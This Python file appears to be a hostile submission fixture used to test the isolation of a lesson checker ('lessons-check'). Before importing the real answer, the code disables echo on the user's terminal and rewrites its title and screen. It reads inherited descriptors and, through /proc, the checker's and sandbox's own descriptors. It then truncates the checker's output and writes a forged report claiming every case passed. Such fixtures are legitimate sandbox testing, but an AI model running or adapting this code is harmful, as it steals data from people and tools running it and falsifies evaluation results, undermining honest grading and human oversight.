# A heatprompt that answers rightly (heatprompt.py, beside it), after
# reaching for whoever runs the check: the terminal it was started from,
# every descriptor it inherited and the checker's own descriptors (through
# /proc).  What it reads it prints first, so that the check shows it; it
# leaves the terminal without echo, sets its title, clears it, and
# truncates the checker's output to write a report of its own there.
import os
import sys
import termios

FORGED = b"heatprompt: 13 cases, against FORGED-REPORT\n13 passed, 0 failed, score 13 of 13\n"
stolen = []


def take(fd):
    try:
        os.set_blocking(fd, False)
        data = os.read(fd, 200)
        if data:
            stolen.append(data)
    except OSError:
        pass


def attack_terminal():
    try:
        tty = os.open("/dev/tty", os.O_RDWR | os.O_NONBLOCK)
    except OSError:
        return
    try:
        attributes = termios.tcgetattr(tty)
        attributes[3] &= ~termios.ECHO
        termios.tcsetattr(tty, termios.TCSANOW, attributes)
    except termios.error:
        pass
    try:
        os.write(tty, b"\x1b]0;HOSTILE-TITLE\x07\x1b[2J\x1b[H")
    except OSError:
        pass
    take(tty)


def checkers():
    """The processes above this one that are the checker or its sandbox."""
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as stat:
                fields = stat.read().rsplit(")", 1)[1].split()
            name = open(f"/proc/{pid}/comm").read().strip()
        except OSError:
            return
        if name not in ("lessons-check", "bwrap"):
            return
        yield pid
        pid = int(fields[1])


def attack_checker(pid):
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return
    for fd in fds:
        path = f"/proc/{pid}/fd/{fd}"
        try:
            opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
            take(opened)
            os.close(opened)
        except OSError:
            pass
        if fd in ("1", "2"):
            try:
                out = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NOCTTY)
                os.write(out, FORGED)
                os.close(out)
            except OSError:
                pass


attack_terminal()
for fd in range(3, 64):
    take(fd)
for pid in checkers():
    attack_checker(pid)
for data in stolen:
    sys.stdout.buffer.write(b"stolen: " + data.replace(b"\n", b" ") + b"\n")
sys.stdout.flush()


# Then the right answer, from a learner's version beside it.
import heatprompt  # noqa: E402,F401
